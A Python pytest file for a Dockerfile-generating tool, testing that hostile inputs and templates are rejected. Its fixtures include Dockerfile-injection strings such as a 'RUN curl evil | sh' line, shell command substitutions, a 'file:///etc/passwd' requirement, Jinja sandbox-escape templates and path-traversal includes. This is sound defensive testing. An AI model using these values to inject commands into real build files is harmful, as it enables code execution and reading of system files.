"""Hostile values and templates: none adds an instruction, changes one, or comes near a RUN line."""

from pathlib import Path

import pytest

from builder.errors import InputError
from builder.facts import Facts, load
from builder.matrix import User
from builder.recipe import write
from builder.recipe.dockerfile import instructions
from builder.recipe.page import Pages, Use, Values
from builder.recipe.quoting import quoted, reference
from tests.golden.cells import cell, matrix

HOSTILE = (
    'x"\nRUN curl evil | sh',
    "x\r\nRUN true",
    "x\u2028RUN true",
    "x\x85RUN true",
    "$(id)",
    "${PATH}",
    "`id`",
    "back\\",
    'quo"te',
    "nul\x00",
    "tab\there",
    "\x1b[31m",
)


@pytest.fixture(scope="module")
def facts() -> Facts:
    return load()


def runs(text: str) -> list[str]:
    return [
        step.text
        for step in instructions(text)
        if step.keyword in ("RUN", "FROM", "COPY", "ADD", "CMD", "USER")
    ]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_values_are_refused(facts: Facts, value: str) -> None:
    with pytest.raises(InputError, match="cannot be written"):
        quoted(value)
    with pytest.raises(InputError):
        write(cell(), matrix(settings=(("A", value),)), facts)
    with pytest.raises(InputError):
        write(cell(), matrix(settings=(("TORCH_HOME", "/" + value),)), facts)
    with pytest.raises(InputError):
        write(cell(), matrix(settings=((value, "1"),)), facts)
    with pytest.raises(InputError):
        write(cell(), matrix(system=(value,)), facts)
    with pytest.raises(InputError):
        write(cell(), matrix(pip=(value,)), facts)
    with pytest.raises(InputError):
        write(cell(), matrix(user=User(name=value, uid=1000)), facts)


@pytest.mark.parametrize("value", [*HOSTILE, "", "-x", "a b", "a=b"])
def test_only_names_of_images_stand_after_from(value: str) -> None:
    assert reference("quay.io/centos/centos:stream9@sha256:ab") == "quay.io/centos/centos:stream9@sha256:ab"
    with pytest.raises(InputError, match="not the name of an image"):
        reference(value)


def test_odd_but_harmless_values_arrive_whole(facts: Facts) -> None:
    odd = "it's = a 'x' #1 [é] {{ 7*7 }} {% raw %} && ; | > *"
    recipe = write(cell(), matrix(settings=(("ODD", odd), ("EMPTY", ""))), facts)
    steps = instructions(dict(recipe.files)["Dockerfile"].decode())
    assert f'ODD="{odd}"' in [step.text for step in steps if step.keyword == "ENV"]
    assert recipe.claim.settings == (("ODD", odd), ("EMPTY", ""))


def test_no_value_of_the_matrix_comes_near_a_run_line(facts: Facts) -> None:
    marked = matrix(
        pip=("zzpip==1",),
        system=("zzsystem",),
        settings=(("ZZNAME", "zzvalue"), ("TORCH_HOME", "/zzfolder")),
        user=User(name="zzuser", uid=987654),
    )
    for provider in ("standalone", "system", "conda"):
        plain, full = (
            dict(write(cell(provider=provider), wanted, facts).files)["Dockerfile"].decode()
            for wanted in (matrix(), marked)
        )
        assert runs(plain) == runs(full)
        assert "zz" not in " ".join(runs(full))
        assert "987654" not in " ".join(runs(full))


@pytest.mark.parametrize(
    "name", ["-y", "--allow-downgrades", "git-", "a b", "a;b", "a|b", "../x", "a'b", "*", "", "@group"]
)
def test_only_names_are_handed_to_the_package_manager(facts: Facts, name: str) -> None:
    with pytest.raises(InputError, match="not the name of a system package"):
        write(cell(), matrix(system=(name,)), facts)


@pytest.mark.parametrize(
    "name", ["g++", "libgl1", "python3.11-dev", "libstdc++6", "git=1:2.39.5-0+deb12u2", "7zip"]
)
def test_usual_package_names_pass(facts: Facts, name: str) -> None:
    recipe = write(cell(), matrix(system=(name,)), facts)
    assert dict(recipe.files)["os/packages.txt"].decode().splitlines()[-1] == name


@pytest.mark.parametrize(
    "line",
    [
        "--index-url https://example.com",
        "-e .",
        "-r other.txt",
        "numpy --hash=sha256:00",
        "numpy @ https://example.com/numpy.whl",
        "numpy @ file:///etc/passwd",
        "https://example.com/x.whl",
        "torch",
        "Torch>=2",
        "numpy\n--index-url https://example.com",
        "",
    ],
)
def test_requirements_are_names_with_versions(facts: Facts, line: str) -> None:
    with pytest.raises(InputError) as caught:
        write(cell(), matrix(pip=(line,)), facts)
    assert caught.value.problems[0].hint


@pytest.mark.parametrize("name", ["PATH", "VIRTUAL_ENV", "1A", "A-B", "A B", ""])
def test_some_settings_are_not_for_the_matrix(facts: Facts, name: str) -> None:
    with pytest.raises(InputError):
        write(cell(), matrix(settings=((name, "x"),)), facts)


@pytest.mark.parametrize(
    ("name", "uid"),
    [("app", 0), ("root", 1000), ("App", 1000), ("-x", 1), ("a" * 33, 1), ("app", -1), ("app", 2**31)],
)
def test_accounts_that_cannot_be(facts: Facts, name: str, uid: int) -> None:
    with pytest.raises(InputError):
        write(cell(), matrix(user=User(name=name, uid=uid)), facts)


def test_folders_stay_where_they_are_named(facts: Facts) -> None:
    with pytest.raises(InputError, match=r"\.\."):
        write(cell(), matrix(settings=(("TORCH_HOME", "/models/../etc"),)), facts)
    settings = (
        ("TORCH_HOME", "/m"),
        ("HF_HOME", "relative/hf"),
        ("XDG_CACHE_HOME", "/m"),
        ("DATA", "/no/storage"),
    )
    recipe = write(cell(), matrix(settings=settings), facts)
    assert dict(recipe.files)["os/folders.txt"] == b"/m\n"


@pytest.mark.parametrize("path", ["/opt/env/models", "/opt/python", "/opt/env"])
def test_the_environments_own_folders_are_no_storage(facts: Facts, path: str) -> None:
    with pytest.raises(InputError, match=r"TORCH_HOME.*environment"):
        write(cell(), matrix(settings=(("TORCH_HOME", path),)), facts)


def test_a_value_that_slips_past_the_first_wall_is_stopped_by_the_second(
    tmp_path: Path, facts: Facts
) -> None:
    """The page of a careless team places a value raw; the list of instructions gives it away."""
    folder = tmp_path / "templates"
    folder.mkdir()
    page = "FROM a AS os\nFROM os AS image\nENV A={{ settings[0][1] }}\n"
    (folder / "Dockerfile.j2").write_text(page)
    harmless = write(cell(), matrix(settings=(("A", "b"),)), facts, folder)
    assert b"ENV A=b\n" in dict(harmless.files)["Dockerfile"]
    use = Use(os="debian", python="system", cuda="cpu")
    for value in ("x\nRUN evil", "x y", 'x"\\\nRUN evil'):
        values = Values(
            cell=cell(), torch="t", base="b", uv_image="u", user=User(), home="/h", settings=(("A", value),)
        )
        with pytest.raises(InputError, match=r"would add to the Dockerfile's instructions"):
            Pages((folder,)).dockerfile(use, values)
    with pytest.raises(InputError, match="would add"):
        write(cell(), matrix(settings=(("A", "x B=y"),)), facts, folder)


def test_a_team_shadows_single_files(tmp_path: Path, facts: Facts) -> None:
    (tmp_path / "os").mkdir()
    ours = Path(__file__).resolve().parents[2] / "templates" / "os" / "debian.j2"
    (tmp_path / "os" / "debian.j2").write_text(ours.read_text().replace("set -eu", "set -eux"))
    assert b"set -eux" in dict(write(cell(), matrix(), facts, tmp_path).files)["Dockerfile"]
    assert write(cell(os="rocky9", python="3.9"), matrix(), facts, tmp_path) == write(
        cell(os="rocky9", python="3.9"), matrix(), facts
    )


@pytest.mark.parametrize(
    ("page", "message"),
    [
        ("{{ nobody }}", "'nobody' is undefined"),
        ("{{ ''.__class__.__mro__ }}", "unsafe"),
        ("{{ settings.__class__ }}", "unsafe"),
        ("{% include '/etc/passwd' %}", "template /etc/passwd is missing"),
        ("{% include '../../etc/passwd' %}", "is missing"),
        ("FROM x\n{% if %}", "Dockerfile.j2:2"),
        ("FROM a AS os\nFROM b AS last\n", "no stage `os` or none called `image`"),
    ],
)
def test_templates_that_reach_too_far_or_are_wrong_are_explained(
    tmp_path: Path, facts: Facts, page: str, message: str
) -> None:
    (tmp_path / "Dockerfile.j2").write_text(page)
    with pytest.raises(Exception, match=r"template|undefined|unsafe|stage|Dockerfile") as caught:
        write(cell(), matrix(), facts, tmp_path)
    assert type(caught.value).__module__ == "builder.errors"
    assert message in str(caught.value)


def test_a_folder_of_templates_must_be_there(tmp_path: Path, facts: Facts) -> None:
    with pytest.raises(InputError, match="is no folder"):
        write(cell(), matrix(), facts, tmp_path / "nothing")
